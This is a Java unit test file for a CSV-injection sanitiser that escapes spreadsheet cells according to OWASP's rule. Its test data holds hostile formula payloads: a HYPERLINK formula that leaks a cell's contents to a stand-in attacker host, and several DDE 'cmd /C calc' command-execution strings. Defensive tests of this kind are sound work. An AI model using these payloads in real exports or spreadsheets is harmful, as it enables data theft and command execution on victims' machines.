package io.introflow.intake;

import java.util.Map;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** OWASP's rule for CSV injection, cell by cell. */
class SpreadsheetSafeTests {

	@Test
	void prefixesACellThatWouldStartAFormula() {
		Map<String, String> cells = Map.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
				"'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0",
				"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", "-2+3", "'-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
				"'@SUM(1+1)*cmd|' /C calc'!A0", "Anna Berg", "Anna Berg", "a=b", "a=b", "", "");
		cells.forEach((value, safe) -> assertThat(SpreadsheetSafe.cell(value)).as(value).isEqualTo(safe));
	}

	@Test
	void removesControlCharactersThenAppliesTheRule() {
		Map<String, String> cells = Map.of("\t=1+1", "'=1+1", "\r=1+1", "'=1+1", "\r\n@x", "'@x", "Line\nBreak",
				"LineBreak", "\u0007-cmd", "'-cmd", "Anna\u0000", "Anna", "x\u2028y\u0085z\u001b", "xyz");
		cells.forEach((value, safe) -> assertThat(SpreadsheetSafe.cell(value)).as(value).isEqualTo(safe));
	}

}
